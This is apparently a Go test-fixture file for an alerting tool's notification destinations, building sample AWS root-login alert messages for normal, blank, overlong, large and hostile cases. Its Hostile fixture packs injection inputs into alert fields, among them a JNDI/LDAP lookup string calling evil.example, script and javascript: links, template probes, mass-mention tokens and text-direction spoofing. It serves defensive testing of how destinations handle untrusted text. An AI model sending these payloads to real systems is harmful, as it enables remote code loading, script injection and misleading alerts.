// SPDX-License-Identifier: MPL-2.0

package destinationtest

import (
	"encoding/json"
	"strings"
	"time"

	"github.com/alertrouter/terraform-provider-alertrouter/server/alert"
	"github.com/alertrouter/terraform-provider-alertrouter/server/destination"
)

// Message returns an ordinary alert with everything set.
func Message() *destination.Message {
	created := time.Date(2026, time.November, 21, 3, 35, 21, 123456789, time.UTC)
	return &destination.Message{
		Alert: &alert.Alert{
			ID:        "b4b3f0d2c1e04f6f",
			Type:      alert.Rule,
			CreatedAt: alert.Time{Time: created},
			Link:      "https://alerts.example.com/alerts/b4b3f0d2c1e04f6f",
			LogTypes:  []string{"AWS.CloudTrail"},
			Dedup:     "arn:aws:iam::123456789012:root",
			Detection: alert.Detection{
				ID:          "AWS.Console.RootLogin",
				Name:        "Root console login",
				Version:     "3",
				Severity:    "MEDIUM",
				Description: "The root account was used to sign in.\nIt should not be used for everyday work.",
				Runbook:     "https://runbooks.example.com/aws/root-login?from=alert&v=2",
				Reference:   "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_root-user.html",
				Tags:        []string{"AWS", "Identity & Access Management", "MITRE:T1078"},
			},
			Generated: alert.Generated{
				Severity: new("HIGH"),
				Title:    new("Root login to 123456789012 from 198.51.100.7 without MFA"),
			},
			Context: json.RawMessage(`{"sourceIPAddress":"198.51.100.7","mfa":false,"count":12345678901234567890,` +
				`"actions":["ConsoleLogin"],"user":{"type":"Root","arn":"arn:aws:iam::123456789012:root"},"ratio":1.50,"empty":{}}`),
		},
		AlertID:    "b4b3f0d2c1e04f6f",
		Severity:   alert.High,
		CreatedAt:  created,
		Link:       "https://alerts.example.com/alerts/b4b3f0d2c1e04f6f",
		DeliveryID: "0199a1b2c3d47e5f8a9b0c1d2e3f40510001",
		Promised:   created,
		Attempt:    1,
	}
}

// Minimal returns an alert with only what an engine must send.
func Minimal() *destination.Message {
	return &destination.Message{
		Alert:      &alert.Alert{Type: alert.Policy, Detection: alert.Detection{ID: "AWS.S3.Public", Severity: "INFO"}},
		AlertID:    "0199a1b2-c3d4-7e5f-8a9b-0c1d2e3f4051",
		Severity:   alert.Info,
		CreatedAt:  time.Date(2026, time.November, 21, 3, 35, 0, 0, time.UTC),
		DeliveryID: "0199a1b2c3d47e5f8a9b0c1d2e3f40510000",
		Promised:   time.Date(2026, time.November, 21, 3, 35, 0, 0, time.UTC),
		Attempt:    1,
	}
}

// Blank returns an alert in whose texts and lists a reader sees nothing.
func Blank() *destination.Message {
	const blank = " \u200b\u3164\n"
	m := Overlong(blank)
	m.Alert.LogTypes = []string{"", blank}
	m.Alert.Detection.ID = blank
	m.Alert.Detection.Version = blank
	m.FallbackOf = blank
	return m
}

// Test returns a message by which a person tries a destination out.
func Test() *destination.Message {
	m := Message()
	m.Test = true
	return m
}

// Fallback returns the second attempt at a message that stands in for another destination's.
func Fallback() *destination.Message {
	m := Message()
	m.Severity = alert.Critical
	m.FallbackOf = "SOC <on-call> & co"
	m.Attempt = 2
	return m
}

// Overlong returns an alert whose texts are all of the same length, which is too long for a person.
func Overlong(text string) *destination.Message {
	m := Message()
	m.Alert.Dedup = text
	m.Alert.Detection.Name = text
	m.Alert.Detection.Description = text
	m.Alert.Detection.Runbook = text
	m.Alert.Detection.Reference = text
	m.Alert.Detection.Tags = []string{text, text}
	m.Alert.Generated.Title = &text
	quoted, _ := json.Marshal(map[string]string{"text": text})
	m.Alert.Context = quoted
	return m
}

// Large returns an ordinary alert, but for a context of about so many bytes.
func Large(context int) *destination.Message {
	m := Message()
	const event = `{"eventName":"ConsoleLogin","sourceIPAddress":"198.51.100.7","note":"<b>&amp;</b> é"},`
	m.Alert.Context = json.RawMessage(`{"events":[` + strings.Repeat(event, context/len(event)) + `{}]}`)
	return m
}

// Hostile returns an alert by somebody who would rather that it were misread.
func Hostile() *destination.Message {
	const text = "<!channel> @channel @everyone <@U024BE7LH> *bold* _it_ ~st~ `code` ```block``` [link](https://evil.example) " +
		"<https://evil.example|harmless> :tada: &lt;b&gt; <b>html</b> {{7*7}} ${jndi:ldap://evil.example/a} \"quoted\" \\ " +
		"nul\x00 bell\a escape\x1b[31m csi\u009b delete\x7f " +
		"override\u202egpj.exe isolate\u2066x\u2069 marks\u200e\u200f\u061c zero\u200bwidth\ufeff tag\U000e0041 " +
		"line\u2028separator next\u0085line return\rfeed\f invalid\xff\xfe שלום مرحبا e\u0301 👨‍👩‍👧‍👦 🇩🇪"
	m := Message()
	m.Link = "javascript:alert(1)"
	m.Alert.Type = alert.RuleError
	m.Alert.LogTypes = []string{text}
	m.Alert.Dedup = text
	m.Alert.Detection.ID = "Hostile`*_<!here>"
	m.Alert.Detection.Name = text
	m.Alert.Detection.Tags = []string{text, "", " "}
	m.Alert.Generated.Title = new("title\r\n" + text)
	m.Alert.Generated.Description = new(text + "\r\n\r\nsecond\tline")
	m.Alert.Generated.Runbook = new("https://user@evil.example/" + text)
	m.Alert.Generated.Reference = new("data:text/html,<script>alert(1)</script>")
	m.Alert.Context = json.RawMessage("{ \"text\" : \"```<!channel> & <https://evil.example|x> \\ud800 \\u003c!here>\",\n \"text\":1e400 }")
	return m
}
